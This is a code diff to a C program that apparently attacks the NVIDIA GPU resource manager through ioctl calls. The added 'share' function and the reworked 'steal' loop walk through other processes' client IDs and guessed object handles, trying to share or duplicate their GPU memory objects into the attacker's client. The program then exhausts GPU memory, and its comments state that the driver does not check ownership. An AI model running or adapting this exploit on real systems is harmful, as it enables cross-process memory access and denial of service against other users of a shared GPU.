@@ -164,14 +164,30 @@ static void keep_by_surface(uint32_t handle)
 	rm_alloc(&rm, way, rm.device, 0xda, params, &surface);
 }
 
-/* Claim that every client there is has memory at every handle, and take it: RM asks who may. */
-static void steal(uint32_t handle)
+/* Share another client's object with ours: RM does not ask whose it is. */
+static void share(uint32_t source_client, uint32_t source)
 {
-	(void)handle;
-	for (uint32_t back = 1; back <= 32; back++)
-		for (uint32_t object = 0x5c000001; object < 0x5c000040 && !FULL; object++)
+	NVOS57_PARAMETERS call = { .hClient = source_client, .hObject = source,
+				   .sharePolicy = { .target = rm.client, .accessMask = RS_ACCESS_DUP_OBJECT,
+						    .type = RS_SHARE_TYPE_CLIENT,
+						    .action = RS_SHARE_ACTION_FLAG_COMPOSE } };
+
+	way(rm.ctl, NV_ESC_RM_SHARE, &call, sizeof(call));
+}
+
+static unsigned int reached;
+
+/* Claim that every client there is has memory at every handle, and take it: RM asks who may. */
+static void steal(bool shared)
+{
+	for (uint32_t back = 1; back <= 32; back++) {
+		for (uint32_t object = 0x5c000001; object < 0x5c000040 && !FULL; object++) {
+			if (shared)
+				share(rm.client - back, object);
 			if (second_handle(&rm, rm.device, rm.client - back, object) == NV_OK)
-				sums->claimed += MIB;
+				reached++;
+		}
+	}
 }
 
 static void many(int count, bool orphans)
@@ -466,8 +482,8 @@ int main(int argc, char **argv)
 		take_and_free(by_alloc, keep_by_other_client);
 	} else if (!strcmp(mode, "export")) {
 		take_and_free(by_alloc, keep_by_descriptor);
-	} else if (!strcmp(mode, "steal")) {
-		steal(0);
+	} else if (!strcmp(mode, "steal") || !strcmp(mode, "share")) {
+		steal(!strcmp(mode, "share"));
 		take_all(by_alloc);
 	} else if (!strcmp(mode, "processes")) {
 		many(12, false);
@@ -502,8 +518,8 @@ int main(int argc, char **argv)
 	sums->claimed = 0;
 	way = rm_plain;
 	take_all(by_alloc); /* to the limit, whatever became of the attack */
-	report("granted %llu, claimed %llu by this and %llu plainly after, refused %llu times (last %#lx)",
+	report("granted %llu, claimed %llu by this and %llu plainly after, refused %llu times (last %#lx), reached %u",
 	       (unsigned long long)granted, (unsigned long long)by_this, (unsigned long long)sums->claimed,
-	       (unsigned long long)sums->refused, sums->last);
+	       (unsigned long long)sums->refused, sums->last, reached);
 	hold();
 }
